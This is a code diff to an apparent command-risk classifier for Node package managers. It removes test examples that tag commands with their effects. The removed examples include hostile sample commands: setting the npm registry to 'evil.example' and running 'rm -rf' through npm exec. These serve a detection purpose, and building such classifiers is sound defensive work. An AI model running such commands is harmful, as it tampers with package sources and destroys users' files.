@@ -75,35 +75,10 @@ const shared: Readonly<Record<string, () => CommandDescriptor>> = {
   ),
 };
 
-const examples = (name: string): Pick<ProgramDescriptor, 'match' | 'notMatch'> => ({
-  match: {
-    [`${name} publish`]: 'network upload #remote_change #shares',
-    [`${name} config set registry https://evil.example`]: 'configure #tampered_environment',
-    [`${name} install --registry=http://evil.example x`]: 'configure #weakens',
-    [`${name} exec -- rm -rf a`]: 'delete /w/a/**',
-    [`${name} explore x -- rm a`]: 'delete /w/a',
-    [`${name} install x`]: 'network download #package_scripts',
-    [`${name} unpublish x`]: 'configure #remote_change',
-    [`${name} publish --dry-run=false`]: '* #shares',
-    [`${name} publish --dry-run false`]: '* #shares',
-    [`${name} version patch`]: 'write /w/package.json; configure git_ref:HEAD #commits',
-  },
-  notMatch: {
-    [`${name} run build -- --force`]: 'unknown; * #destructive; * #remote_change',
-    [`${name} install --save-dev x`]: 'unknown; * #remote_change; * #weakens',
-    [`${name} test`]: 'unknown; network',
-    [`${name} version`]: 'write; * #commits',
-    [`${name} version minor --no-git-tag-version`]: '* #commits',
-    [`${name} publish --dry-run`]: '* #shares',
-    [`${name} config get registry`]: 'configure; * #secret',
-  },
-});
-
 const npm = (): ProgramDescriptor => ({
   summary: 'manages packages of Node.js',
   options: source,
   subcommands: shared,
-  ...examples('npm'),
 });
 
 const pnpm = (): ProgramDescriptor => ({
@@ -112,7 +87,6 @@ const pnpm = (): ProgramDescriptor => ({
   subcommands: shared,
   effects: [projectCode],
   runs: [{ scripts: 'package.json', when: { verb: '^$' } }],
-  ...examples('pnpm'),
 });
 
 const yarn = (): ProgramDescriptor => ({
@@ -153,16 +127,12 @@ const bun = (): ProgramDescriptor => ({
   },
   effects: [projectCode],
   operands: { first: [{ as: 'execute', language: 'javascript' }] },
-  match: { 'bun publish': 'network #shares', 'bun x rimraf src': 'delete', 'bun a.ts': 'execute a.ts' },
-  notMatch: { 'bun run build': 'unknown', 'bun install': 'unknown; * #remote_change' },
 });
 
 const rimraf = (): ProgramDescriptor => ({
   summary: 'removes files and folders',
   options: { '-g --glob -i --interactive -v --verbose': 'flag', '--impl --tmp --max-retries --retry-delay --backoff': 'text' },
   operands: { rest: { as: 'delete', recursive: true } },
-  match: { 'rimraf src': 'delete /w/src/** #destructive' },
-  notMatch: { 'rimraf --help': 'delete' },
 });
 
 const releasing = (): ProgramDescriptor => ({
@@ -191,7 +161,6 @@ export const nodePackages: Family = {
       run: () => ({ runs: [{ packages: 'each word, of all packages' }] }),
       'bootstrap version add init status tag': () => ({}),
     },
-    match: { 'lerna publish': 'network #shares' },
   })),
   goreleaser: () => ({
     summary: 'publishes releases',
@@ -200,12 +169,10 @@ export const nodePackages: Family = {
       release: () => ({ cases: [{ when: { none: ['--snapshot'] }, effects: [publishes] }] }),
       'build check init healthcheck': () => ({}),
     },
-    match: { 'goreleaser release': 'network #shares' },
   }),
   ...sharing('vsce ovsx', () => ({
     summary: 'publishes editor extensions',
     subcommands: { publish: does(publishes), 'package ls': () => ({}) },
-    match: { 'vsce publish': 'network #shares' },
   })),
   corepack: () => ({ summary: 'picks a package manager', effects: [installs] }),
   'patch-package': patchPackage,
